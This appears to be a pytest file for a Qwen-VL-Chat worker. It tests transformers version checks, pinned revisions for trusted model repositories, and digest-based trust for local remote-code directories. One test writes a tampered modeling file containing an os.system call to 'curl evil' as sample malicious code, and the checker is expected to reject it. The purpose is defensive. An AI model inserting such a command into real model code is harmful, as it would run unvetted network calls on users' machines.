"""Qwen-VL-Chat's own code runs only when trusted, and only on transformers it works with."""

import pytest

from qvl.errors import UserFacingError
from qvl.settings import Settings
from worker.engines.remote_code import (
    UntrustedCode,
    check_directory,
    check_transformers,
    code_digest,
    parse_trusted,
    pinned_revision,
)

TRUSTED = Settings().qwen_vl_trusted


@pytest.mark.parametrize("version", ["4.32.0", "4.44.2", "4.51.3", "4.53.3"])
def test_working_transformers_pass(version):
    check_transformers(version)


@pytest.mark.parametrize("version", ["4.31.0", "4.52.4", "4.54.1", "4.57.1", "5.24.0", "none"])
def test_other_transformers_fail_naming_the_working_ones(version):
    with pytest.raises(UserFacingError) as caught:
        check_transformers(version)
    message = caught.value.message
    assert f"transformers {version}" in message
    assert "4.53.3" in message and ">=4.32" in message and "!=4.52.*" in message
    assert "pip install -e '.[qwen-vl]'" in message


def test_the_installed_transformers_is_checked_by_default():
    import transformers

    if transformers.__version__.startswith("5."):
        with pytest.raises(UserFacingError, match=transformers.__version__):
            check_transformers()
    else:
        check_transformers()


def test_published_repositories_are_pinned_by_default():
    assert pinned_revision("Qwen/Qwen-VL-Chat", TRUSTED) == "f57cfbd358cb56b710d963669ad1bcfb44cdcdd8"
    assert pinned_revision("qwen/qwen-vl-chat-int4", TRUSTED) == "cbe5f4e5a742f3019d084e0d53861f72b4e60350"
    assert pinned_revision("modelscope:qwen/Qwen-VL-Chat", TRUSTED) == "v1.1.0"
    assert pinned_revision("ms://qwen/Qwen-VL-Chat-Int4", TRUSTED) == "v1.0.0"


def test_a_repository_off_the_list_is_refused_with_how_to_allow_it():
    with pytest.raises(UntrustedCode) as caught:
        pinned_revision("someone/Qwen-VL-Chat-finetune", TRUSTED)
    assert "trust_remote_code" in caught.value.message
    assert "someone/Qwen-VL-Chat-finetune@REVISION" in caught.value.message
    assert "QVL_QWEN_VL_TRUSTED" in caught.value.message
    allowed = TRUSTED + ",someone/Qwen-VL-Chat-finetune@abc123"
    assert pinned_revision("someone/Qwen-VL-Chat-finetune", allowed) == "abc123"


def test_an_entry_without_a_revision_is_refused():
    with pytest.raises(UserFacingError, match="pinned revision"):
        parse_trusted("Qwen/Qwen-VL-Chat")
    repos, digests = parse_trusted(" Qwen/Qwen-VL-Chat@v1 , sha256:ABCD ,")
    assert repos == {"qwen/qwen-vl-chat": "v1"} and digests == {"abcd"}


def test_a_local_directory_runs_only_code_whose_digest_is_trusted(tmp_path):
    (tmp_path / "modeling_qwen.py").write_text("print('model')\n")
    (tmp_path / "config.json").write_text("{}")
    digest = code_digest(tmp_path)
    with pytest.raises(UntrustedCode) as caught:
        check_directory(tmp_path, TRUSTED)
    assert f"sha256:{digest}" in caught.value.message
    check_directory(tmp_path, f"{TRUSTED},sha256:{digest}")
    (tmp_path / "config.json").write_text('{"changed": true}')  # not code: the digest holds
    check_directory(tmp_path, f"{TRUSTED},sha256:{digest}")
    (tmp_path / "modeling_qwen.py").write_text("import os; os.system('curl evil')\n")
    with pytest.raises(UntrustedCode):
        check_directory(tmp_path, f"{TRUSTED},sha256:{digest}")
    (tmp_path / "modeling_qwen.py").write_text("print('model')\n")
    (tmp_path / "extra.py").write_text("")  # a file added beside the trusted ones
    with pytest.raises(UntrustedCode):
        check_directory(tmp_path, f"{TRUSTED},sha256:{digest}")
